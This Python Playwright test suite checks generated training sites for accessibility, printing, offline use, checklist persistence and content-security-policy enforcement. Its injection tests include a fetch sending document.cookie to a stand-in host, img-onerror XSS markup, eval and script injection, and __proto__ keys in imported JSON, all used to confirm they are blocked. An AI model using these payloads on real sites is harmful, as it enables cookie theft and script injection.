"""The finished sites in a real browser, as a host serves them, below a folder and under their own content policy."""

from __future__ import annotations

import functools
import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import pypdfium2
import pytest
from axe_playwright_python.base import AXE_SCRIPT
from chromium import find_chromium
from immerse.model.edition import View
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Route, expect, sync_playwright
from site_fixtures import Sites

pytestmark = pytest.mark.browser

TRAINEE, MENTOR = "northgate/trainee/", "northgate/mentor/"
KINDS = (
    *(TRAINEE + path for path in ("", "learn/", "learn/tri/", "learn/tri/tri-l3/", "learn/tri/drills/")),
    *(TRAINEE + path for path in ("learn/tri/checks/", "playbooks/pb-01/", "playbooks/pb-03/", "playbooks/pb-12/")),
    *(TRAINEE + path for path in ("rotation/", "rotation/gates/", "rotation/handover/", "checklist/progress/")),
    *(TRAINEE + path for path in ("checklist/graduation/", "reference/policy/", "reference/policy/response/")),
    *(TRAINEE + path for path in ("reference/contacts/", "reference/priorities/", "reference/glossary/")),
    *(TRAINEE + path for path in ("changes/", "about/")),
    *(MENTOR + path for path in ("learn/rsp/rsp-l3/", "mentor/director/", "mentor/brief/", "mentor/coverage/")),
    "latest/404.html",
)
"""One page of each kind. The page for what is not found stands where the site will: its links begin at the host."""

WCAG = {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}
SCHEMES: tuple[tuple[Literal["light", "dark"], str, dict[str, Any]], ...] = (
    ("light", "default", WCAG),
    ("dark", "slate", {"type": "rule", "values": ["color-contrast"]}),
)
"""Scheme, the theme's name for it, what axe judges: only colours differ in the dark."""
NAVIGATION = (".md-header", ".md-tabs", ".md-sidebar", ".md-footer", ".md-search", ".md-top", ".headerlink")
"""What nobody can use on paper."""
STILL = "() => document.getAnimations().every(animation => animation.playState !== 'running')"


@pytest.fixture(scope="module")
def host(demo_sites: Sites) -> Iterator[str]:
    """Where all sites are served; `latest/` is what northgate's own host will show."""
    out = demo_sites.folder("northgate").parents[1]
    demo_sites.folder("northgate", View.MENTOR)

    class Handler(http.server.SimpleHTTPRequestHandler):
        def translate_path(self, path: str) -> str:
            return super().translate_path(re.sub(r"^/latest/", f"/{TRAINEE}", path))

        def log_message(self, *_: Any) -> None:
            """Nothing: the tests collect what fails."""

    handler = functools.partial(Handler, directory=str(out))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = find_chromium()
    assert path, "no Chromium found; run: python tests/chromium.py --install"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context
    context.close()


@pytest.fixture
def plain(browser: Browser) -> Iterator[BrowserContext]:
    """A browser without JavaScript."""
    context = browser.new_context(java_script_enabled=False)
    yield context
    context.close()


def opened(context: BrowserContext, address: str) -> Page:
    page = context.new_page()
    page.goto(address)
    return page


@dataclass(slots=True)
class Visit:
    """What one load of a page showed."""

    trouble: list[str] = field(default_factory=list)
    """Console errors, uncaught errors, answers that are no success."""
    elsewhere: list[str] = field(default_factory=list)
    """Requests to another origin."""
    faults: dict[str, list[str]] = field(default_factory=dict)
    """Colour scheme -> what axe calls serious or critical."""
    width: int = 0
    """Of the document on a telephone 360 pixels wide."""
    printed: list[str] = field(default_factory=list)
    """Parts of the navigation that would be printed."""


@pytest.fixture(scope="module")
def visit(browser: Browser, host: str) -> Iterator[Callable[[str], Visit]]:
    """Loads a page once, whatever is then asked about it."""
    context = browser.new_context(color_scheme="light")

    @functools.cache
    def look(path: str) -> Visit:
        page = context.new_page()
        try:
            return _look(page, host, path)
        finally:
            page.close()

    yield look
    context.close()


def _look(page: Page, host: str, path: str) -> Visit:
    seen = Visit()

    def said(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            seen.trouble.append(message.text)

    page.on("console", said)
    page.on("pageerror", lambda error: seen.trouble.append(str(error)))
    page.on("response", lambda got: seen.trouble.append(f"{got.status} {got.url}") if got.status >= 400 else None)
    page.on("request", lambda asked: seen.elsewhere.append(asked.url) if not _is_own(asked.url, host) else None)
    page.set_viewport_size({"width": 1280, "height": 900})
    page.goto(host + path)
    page.evaluate("for (const folded of document.querySelectorAll('details')) folded.open = true")
    page.evaluate(AXE_SCRIPT)
    for scheme, name, judged in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        page.wait_for_function("name => document.body.dataset.mdColorScheme === name", arg=name)
        page.wait_for_function(STILL)
        options = {"runOnly": judged, "resultTypes": ["violations"]}
        seen.faults[scheme] = _weighty(page.evaluate("options => axe.run(document, options)", options))
    page.emulate_media(media="print")
    seen.printed = [name for name in NAVIGATION if page.locator(f"{name}:visible").count()]
    page.emulate_media(media="screen")
    page.set_viewport_size({"width": 360, "height": 740})
    page.wait_for_function("innerWidth === 360")
    seen.width = page.evaluate("document.documentElement.scrollWidth")
    return seen


def _is_own(address: str, host: str) -> bool:
    return address.startswith((host, f"blob:{host}", "data:"))


def _weighty(result: Any) -> list[str]:
    return [
        f"{found['id']}: {node['html'][:200]}"
        for found in result["violations"]
        if found["impact"] in ("serious", "critical")
        for node in found["nodes"]
    ]


@pytest.mark.parametrize("path", KINDS)
def test_a_page_loads_without_trouble_and_from_its_own_host_only(visit: Callable[[str], Visit], path: str) -> None:
    seen = visit(path)
    assert (seen.trouble, seen.elsewhere) == ([], [])


@pytest.mark.parametrize("path", KINDS)
def test_axe_finds_nothing_serious_in_light_and_dark(visit: Callable[[str], Visit], path: str) -> None:
    assert visit(path).faults == {"light": [], "dark": []}


@pytest.mark.parametrize("path", KINDS)
def test_a_page_fits_a_telephone(visit: Callable[[str], Visit], path: str) -> None:
    assert visit(path).width <= 360


@pytest.mark.parametrize("path", KINDS)
def test_paper_shows_no_navigation(visit: Callable[[str], Visit], path: str) -> None:
    assert visit(path).printed == []


def test_the_looks_can_see_a_fault(browser: Browser, tmp_path: Path) -> None:
    """A page with one of each: unlabelled box, script that fails, foreign picture, wide block, header that prints."""
    (tmp_path / "index.html").write_text(
        '<!doctype html><html lang="en"><title>x</title><body data-md-color-scheme="default"><input type="checkbox">'
        '<div class="md-header" style="width: 900px">x</div><img alt="" src="http://other.invalid/x.png"><script>'
        "matchMedia('(prefers-color-scheme: dark)').onchange = () => document.body.dataset.mdColorScheme = 'slate';"
        "console.error('no')</script>",
        "utf-8",
    )
    with http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(_Quiet, directory=str(tmp_path))
    ) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        context = browser.new_context(color_scheme="light")
        seen = _look(context.new_page(), f"http://127.0.0.1:{server.server_port}/", "index.html")
        context.close()
        server.shutdown()
        thread.join()
    assert "no" in seen.trouble
    assert seen.elsewhere == ["http://other.invalid/x.png"]
    assert [fault.split(":")[0] for fault in seen.faults["light"]] == ["label"]
    assert (seen.width > 360, seen.printed) == (True, [".md-header"])


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: Any) -> None:
        """Nothing."""


def test_a_lesson_reads_without_javascript(plain: BrowserContext, host: str) -> None:
    page = opened(plain, f"{host}{TRAINEE}learn/tri/tri-l2/")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Priority and clocks")
    expect(page.get_by_text("so all four priorities run on the wall clock")).to_be_visible()


def test_an_answer_unfolds_without_javascript(plain: BrowserContext, host: str) -> None:
    page = opened(plain, f"{host}{TRAINEE}learn/tri/checks/")
    question = page.locator(".im-check").first
    answer = question.locator("details > :not(summary)").first
    expect(answer).to_be_hidden()
    question.locator("summary").click()
    expect(answer).to_be_visible()
    assert page.locator("button:visible:not([hidden])").count() == 0


@pytest.mark.parametrize(("list_", "items"), [("progress", 43), ("graduation", 30)])
def test_a_checklist_is_boxes_and_labels_without_javascript(
    plain: BrowserContext, host: str, list_: str, items: int
) -> None:
    page = opened(plain, f"{host}{TRAINEE}checklist/{list_}/")
    boxes = page.locator(".im-item input[type=checkbox]:visible")
    assert boxes.count() == page.locator(".im-item label:visible").count() == items
    names = {page.locator(f"label[for='{boxes.nth(index).get_attribute('id')}']").count() for index in range(items)}
    assert names == {1}


@pytest.mark.parametrize("list_", ["progress", "graduation"])
@pytest.mark.parametrize("kind", ["context", "plain"])
def test_a_checklist_prints_its_boxes_and_nothing_to_click(
    request: pytest.FixtureRequest, host: str, kind: str, list_: str
) -> None:
    page = opened(request.getfixturevalue(kind), f"{host}{TRAINEE}checklist/{list_}/")
    page.emulate_media(media="print")
    box = page.locator(".im-item input[type=checkbox]").first.bounding_box()
    assert box and box["width"] >= 8
    assert page.locator("button:visible").count() == 0
    assert [name for name in NAVIGATION if page.locator(f"{name}:visible").count()] == []


def test_a_printed_page_of_questions_holds_the_answers_and_no_menu(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
    hidden = page.locator(".im-check details p").first.text_content() or ""
    paper = pypdfium2.PdfDocument(page.pdf(format="A4"))
    text = " ".join(" ".join(sheet.get_textpage().get_text_bounded() for sheet in paper).split())
    assert " ".join(hidden.split())[:40] in text
    assert "What changed" not in text


def test_search_finds_a_hard_trigger(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}")
    page.keyboard.press("/")
    page.keyboard.type("hard trigger")
    found = page.locator(".md-search-result__link")
    expect(found.first).to_be_visible()
    addresses = [found.nth(index).get_attribute("href") or "" for index in range(found.count())]
    assert any("/learn/tri/tri-l3/" in address for address in addresses)
    found.first.click()
    expect(page.get_by_role("heading", level=1)).to_be_visible()


PROGRESS = f"{TRAINEE}checklist/progress/"


def boxes(page: Page) -> Any:
    return page.locator(".im-item input[type=checkbox]")


def test_a_tick_is_still_there_after_a_reload_and_on_another_page(context: BrowserContext, host: str) -> None:
    page = opened(context, host + PROGRESS)
    boxes(page).nth(2).check()
    page.goto(f"{host}{TRAINEE}")
    page.goto(host + PROGRESS)
    assert [boxes(page).nth(index).is_checked() for index in range(4)] == [False, False, True, False]


def test_two_tabs_keep_each_others_ticks(context: BrowserContext, host: str) -> None:
    one, other = opened(context, host + PROGRESS), opened(context, host + PROGRESS)
    boxes(one).nth(0).check()
    boxes(other).nth(1).check()
    expect(boxes(other).nth(0)).to_be_checked()
    expect(boxes(one).nth(1)).to_be_checked()
    one.reload()
    assert [boxes(one).nth(index).is_checked() for index in range(3)] == [True, True, False]


def test_a_new_edition_keeps_the_tick_and_says_what_changed(context: BrowserContext, host: str) -> None:
    page = opened(context, host + PROGRESS)
    item = page.locator(".im-item").first
    digest = item.get_attribute("data-digest")
    assert digest
    boxes(page).nth(0).check()
    boxes(page).nth(1).check()

    def next_edition(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace(digest, f"sha256:{'0' * 64}"))

    page.route(host + PROGRESS, next_edition)
    page.reload()
    expect(item).to_contain_text("Changed since you ticked it")
    assert boxes(page).nth(0).is_checked()
    assert page.get_by_text("Changed since you ticked it").count() == 1
    page.get_by_role("button", name="I have read it").click()
    expect(page.get_by_text("Changed since you ticked it")).to_have_count(0)


def load_copy(page: Page, content: str) -> None:
    copy = {"name": "copy.json", "mimeType": "application/json", "buffer": content.encode()}
    page.locator("input[type=file]").set_input_files(copy)  # type: ignore[arg-type]


def test_a_saved_copy_brings_the_ticks_to_another_browser(browser: Browser, context: BrowserContext, host: str) -> None:
    page = opened(context, host + PROGRESS)
    boxes(page).nth(0).check()
    boxes(page).nth(3).check()
    with page.expect_download() as download:
        page.get_by_role("button", name="Save a copy").click()
    saved = download.value.path().read_text("utf-8")
    assert json.loads(saved)["client"] == "northgate"
    elsewhere = browser.new_context()
    fresh = opened(elsewhere, host + PROGRESS)
    load_copy(fresh, saved)
    fresh.get_by_role("button", name="Merge").click()
    expect(boxes(fresh).nth(3)).to_be_checked()
    assert [boxes(fresh).nth(index).is_checked() for index in range(4)] == [True, False, False, True]
    elsewhere.close()


@pytest.mark.parametrize(
    "content",
    [
        "not JSON",
        '{"schema": "immerse.ticks/1", "client": "hearthline", "ticks": {}}',
        '{"schema": "immerse.ticks/9", "client": "northgate", "ticks": {}}',
        '{"__proto__": {"schema": "immerse.ticks/1", "client": "northgate"}}',
        '["immerse.ticks/1"]',
    ],
)
def test_a_file_that_is_no_copy_is_refused_in_a_sentence(context: BrowserContext, host: str, content: str) -> None:
    page = opened(context, host + PROGRESS)
    boxes(page).nth(0).check()
    load_copy(page, content)
    expect(page.locator("#checklist-notice")).to_have_text(re.compile(r"^This .+\. Nothing was changed\.$"))
    assert boxes(page).nth(0).is_checked()


def test_markup_in_a_copy_stays_text(context: BrowserContext, host: str) -> None:
    page = opened(context, host + PROGRESS)
    tick = {"digest": f"sha256:{'0' * 64}", "checked": True, "at": "2026-12-02T09:00:00Z"}
    hostile = {"<img src=x onerror=hit()>": tick, "__proto__": tick, "XX-9": tick}
    load_copy(page, json.dumps({"schema": "immerse.ticks/1", "client": "northgate", "ticks": hostile}))
    page.get_by_role("button", name="Merge").click()
    expect(page.locator("#checklist-elsewhere")).to_contain_text("XX-9")
    assert page.locator("#checklist-elsewhere img, #checklist-notice img").count() == 0


def test_an_answer_is_judged_and_its_reason_opens(context: BrowserContext, host: str) -> None:
    page = opened(context, f"{host}{TRAINEE}learn/tri/checks/")
    question = page.locator(".im-check").first
    right = question.get_attribute("data-answer")
    question.locator(f"input:not([value='{right}'])").first.check()
    question.get_by_role("button", name="Check question 1").click()
    expect(question.locator(".im-verdict")).to_contain_text("Not this one")
    expect(question.locator("details > :not(summary)").first).to_be_visible()
    question.locator(f"input[value='{right}']").check()
    question.get_by_role("button", name="Check question 1").click()
    expect(question.locator(".im-verdict")).to_have_text("Right.")


INJECTIONS = {
    "script-src-attr": 'box.innerHTML = \'<img src="x" onerror="window.hit = true">\'',
    "script-src-elem": "const made = document.createElement('script'); made.text = 'hit = true'; box.append(made)",
    "script-src": "window.eval('window.hit = true')",
    "img-src": "const made = new Image(); made.src = 'http://other.invalid/x.png'; box.append(made)",
    "connect-src": "fetch('http://other.invalid/?' + document.cookie).catch(() => 0)",
    "style-src-attr": "box.innerHTML = '<p style=\"color: red\">x</p>'",
}
"""Directive of the policy -> what it must stop."""

# In a timer, because the console may evaluate what the page may not.
INJECT = """() => new Promise(done => {
  document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
  const box = document.body.appendChild(document.createElement("div"));
  setTimeout(() => { INJECTION; });
  setTimeout(() => done("nothing was stopped"), 5000);
})"""


@pytest.mark.parametrize("directive", INJECTIONS)
def test_the_pages_policy_stops_what_was_injected(context: BrowserContext, host: str, directive: str) -> None:
    page = opened(context, f"{host}{TRAINEE}about/")
    assert page.evaluate(INJECT.replace("INJECTION", INJECTIONS[directive])) == directive
    assert page.evaluate("window.hit") is None


def test_a_keyboard_skips_to_the_content_and_ticks_by_space(context: BrowserContext, host: str) -> None:
    page = opened(context, host + PROGRESS)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.matches('.md-skip')")
    expect(page.locator(".md-skip")).to_be_visible()
    page.keyboard.press("Enter")
    page.wait_for_function("location.hash !== ''")
    boxes(page).first.focus()
    page.keyboard.press("Space")
    assert boxes(page).first.is_checked()
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement !== document.body")
